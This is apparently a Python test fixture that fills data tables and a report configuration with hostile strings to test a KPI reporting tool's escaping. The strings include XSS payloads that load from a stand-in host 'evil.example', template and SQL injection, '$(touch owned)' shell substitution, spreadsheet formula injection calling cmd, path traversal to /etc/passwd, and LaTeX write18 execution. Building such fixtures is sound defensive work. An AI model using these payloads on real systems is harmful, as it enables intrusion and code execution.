"""Texts as they come from outside when somebody means harm, or a system went wrong; and a shop that is full of them.

Each payload that would run something calls ``kk()`` or loads from ``evil.example``, so that a test can see it.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from itertools import islice
from typing import Any

import pandas as pd

HOST = "evil.example"
LONG = 5000
MARKUP = (
    "<script>kk()</script>",
    "</script><script>kk()</script>",
    "<scr<script>ipt>kk()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0ctype='text/javascript'>kk()</script>",
    '"><script>kk()</script>',
    "'><script>kk()</script>",
    "</title><script>kk()</script>",
    "</style><script>kk()</script>",
    "</textarea><script>kk()</script>",
    "</caption></table><script>kk()</script>",
    "</td></tr></table><h1>owned</h1>",
    '<noscript><p title="</noscript><img src=x onerror=kk()>">',
    "<template><script>kk()</script></template>",
    "<xmp><script>kk()</script></xmp>",
    "<plaintext>all that follows",
    "<!--<script>kk()</script>-->",
    "--><script>kk()</script><!--",
    "<!--><script>kk()</script>",
    "<![CDATA[<script>kk()</script>]]>",
    "]]><script>kk()</script>",
    "<?xml version='1.0'?><script>kk()</script>",
    "<!DOCTYPE html><!ENTITY x 'y'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>parent.kk()</script>'></iframe>",
    "<object data='data:text/html,<script>kk()</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example/><input name=x><button>go</button></form>",
    "<input autofocus onfocus=kk()>",
    "<dialog open>owned</dialog>",
    "<a href=//evil.example/ ping=//evil.example/p>click</a>",
)
HANDLERS = (
    "<img src=x onerror=kk()>",
    '"><img src=x onerror=kk()>',
    "' onmouseover='kk()",
    '" onfocus="kk()" autofocus tabindex="1',
    "` onload=kk() `",
    "<body onload=kk()>",
    "<details open ontoggle=kk()>x</details>",
    "<video><source onerror=kk()></video>",
    "<audio src=x onerror=kk()>",
    "<marquee onstart=kk()>x</marquee>",
    "<div style='animation-name:x' onanimationstart=kk()>x</div>",
    "<img/src/onerror=kk()>",
    "<img src=x:x onerror\n=\nkk()>",
    "<p/onpointerrawupdate=kk()>x",
)
DRAWINGS = (
    "<svg onload=kk()>",
    "<svg><script>kk()</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=kk() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:kk()>",
    "<svg><foreignObject><body onload=kk()></foreignObject></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "</text></svg><script>kk()</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=kk()></style></mglyph></table></mtext></math>",
    "<math href=javascript:kk()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:kk()>x</maction></math>",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0;background:red'>over</p>",
    "</style><style>body{visibility:hidden}",
    "expression(kk())",
    "red;background:url(//evil.example/x)",
    "\\3c script\\3e kk()",
)
ADDRESSES = (
    "javascript:kk()",
    "JaVaScRiPt:kk()",
    "java\tscript:kk()",
    "java\nscript:kk()",
    "\x01javascript:kk()",
    "javascript&colon;kk()",
    "vbscript:msgbox(1)",
    "data:text/html,<script>kk()</script>",
    "data:text/html;base64,PHNjcmlwdD5raygpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='kk()'/>",
    "http://evil.example/x.png",
    "//evil.example/x",
    "mailto:kk@evil.example?subject=x%0d%0aBcc:all",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{config}}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{segment}",
    "%(password)s %s %n %x",
    "$(touch owned)",
    "`touch owned`",
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    "__import__('os').system('touch owned')",
)
MARKDOWN = (
    "[click](javascript:kk())",
    "![x](//evil.example/x.png)",
    "<javascript:kk()>",
    "# A heading",
    "**bold** _it_ ~~gone~~",
    "| a | b |\n| --- | --- |",
    "```\ncode\n```",
    "---\ntitle: owned\n---",
    "[x]: javascript:kk()",
    "* item\n* item",
)
ENTITIES = (
    "&lt;script&gt;kk()&lt;/script&gt;",
    "&#60;script&#62;kk()&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&notanentity; & &amp",
    "%3Cscript%3Ekk()%3C/script%3E",
    "\\u003cscript\\u003ekk()\\u003c/script\\u003e",
    "＜script＞kk()＜/script＞",
    "+ADw-script+AD4-kk()+ADw-/script+AD4-",
    "¼script¾kk()¼/script¾",
)
SIGNS = (
    "zero\x00byte",
    "bell\x07 and backspace\x08",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07",
    "\x9b31m",
    "rtl \u202egnp.exe",
    "\u2067isolate without end",
    "\u200fmark\u200e",
    "שלום עולם",
    "مرحبا بالعالم",
    "zero\u200bwidth\ufeffspace\u2060",
    "soft\u00adhyphen",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031eA\u0321",
    "👩‍👩‍👧‍👦 family",
    "日本語の名前",
    "Ünïcödé Å",
    "line\u2028separator\u2029paragraph",
    "tags \U000e0041\U000e0042",
    "two\nlines\r\nand\rmore",
    "W" * 500,
    "many words " * 100,
    "x" * 1_000_000,
)
SHEETS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "a;=1+1",
    "a\t=1+1",
    '"=1+1',
    '=1+1","=2+2',
    "%0A=1+1",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\Windows\\System32",
    "CON",
    "nul.csv",
    "COM1",
    ".",
    "..",
    "name/with/slashes",
    "x.html\x00.csv",
    "~root",
    "*?<>|:",
)
BREAKS = (
    "\\",
    '"',
    "'",
    '\\"',
    '"}],"x":[{"',
    "null",
    "NaN",
    "undefined",
    "true",
    "1e309",
    "$\\frac{1}{0}$",
    "$$x$$ \\input{/etc/passwd}",
    "\\(x\\) \\[y\\]",
    "\\begin{document}\\write18{id}",
    "all",
    "unknown",
    "Traceback of nothing",
)
PAYLOADS = (
    *MARKUP, *HANDLERS, *DRAWINGS, *STYLES, *ADDRESSES, *TEMPLATES, *MARKDOWN, *ENTITIES, *SIGNS, *SHEETS, *PATHS,
    *BREAKS,
)  # fmt: skip
# column → how many different payloads stand in it; every payload is the name of a product
COLUMNS = {
    ("order_lines", "product"): len(PAYLOADS), ("orders", "channel"): 12, ("orders", "segment"): 12,
    ("orders", "payment_method"): 20, ("order_lines", "category"): 20, ("customers", "channel"): 12,
    ("customers", "segment"): 12, ("customers", "country"): 20, ("subscriptions", "plan"): 6,
    ("survey_responses", "comment"): len(PAYLOADS), ("survey_responses", "touchpoint"): 8,
    ("survey_responses", "channel"): 12, ("survey_responses", "segment"): 12, ("survey_invites", "segment"): 12,
    ("feedback", "text"): len(PAYLOADS), ("feedback", "source"): 20, ("feedback", "product"): 20,
    ("tickets", "channel"): 8, ("tickets", "topic"): 12, ("tickets", "agent"): 6, ("sessions", "channel"): 12,
    ("sessions", "device"): 12, ("events", "channel"): 12, ("events", "device"): 12, ("spend", "channel"): 12,
    ("actions", "title"): 12, ("actions", "owner"): 12,
}  # fmt: skip
SHARED = ("segment", "channel")  # the same names in every table
# one row in so many is of a hostile kind (of a hostile step)
KINDS = {"survey_responses": 40, "survey_invites": 40, "spend": 25, "events": 50}
NAMED_IN_ROWS = 3


def in_turn() -> Iterator[str]:
    """Yield the payloads again and again, the longest but where all are asked for."""
    yield from PAYLOADS
    while True:
        yield from (payload for payload in PAYLOADS if len(payload) < LONG)


def hostile_tables(tables: Mapping[str, pd.DataFrame]) -> dict[str, pd.DataFrame]:
    """Return tables with payloads in every text column, row by row in turn, and in the names of further columns."""
    supply, shared = in_turn(), {}
    made = {name: table.copy() for name, table in tables.items()}
    for (name, column), size in COLUMNS.items():
        texts = list(PAYLOADS) if size == len(PAYLOADS) else list(islice(supply, size))
        texts = shared.setdefault(column, texts) if column in SHARED else texts
        made[name][column] = [texts[number % len(texts)] for number in range(len(made[name]))]
    for name, step in KINDS.items():
        column, rows = ("step" if name == "events" else "kind"), made[name].index[::step]
        made[name].loc[rows, column] = list(islice(supply, len(rows)))
    for table in made.values():
        for payload in islice(supply, NAMED_IN_ROWS):
            table[payload] = "x"
    return made


def hostile_config(tables: Iterable[str]) -> dict[str, Any]:
    """Return a configuration whose every free text is a payload, over ``tables`` in Parquet files of their names."""
    supply = (one for one in in_turn() if len(one) < LONG and "${" not in one)  # which no text of kpikit.yaml may hold
    own = [
        {"id": f"own_{number}", "title": next(supply), "table": "orders", "eligible": "delivered_at IS NOT NULL",
         "success": "is_intact", "target": 0.9, "owner": next(supply)}
        for number in range(20)
    ]  # fmt: skip
    goals = [
        {"kpi": f"own_{number}", "at_least": 0.9, "by": "2026-12-31", "owner": next(supply)} for number in range(20)
    ]
    return {
        "business": {"name": " ".join(islice(supply, 12)), "currency": "EUR", "timezone": "Europe/Lisbon"},
        "tables": {name: {"from": f"{name}.parquet"} for name in tables},
        "economics": {"margin_fraction": 0.42, "annual_discount_rate": 0.1},
        "performance_indicators": own,
        "goals": goals,
        "benchmarks": [{"kpi": "retention_rate", "value": 0.5, "source": next(supply), "kind": "internal"}],
        "interventions": [
            {"id": "card", "name": next(supply), "starts": "2026-02-01", "kpi": "retention_rate"},
        ],
        "privacy": {"min_cell": 5, "staff": list(islice(supply, 20))},
        "report": {"title": " ".join(islice(supply, 12))},
    }  # fmt: skip
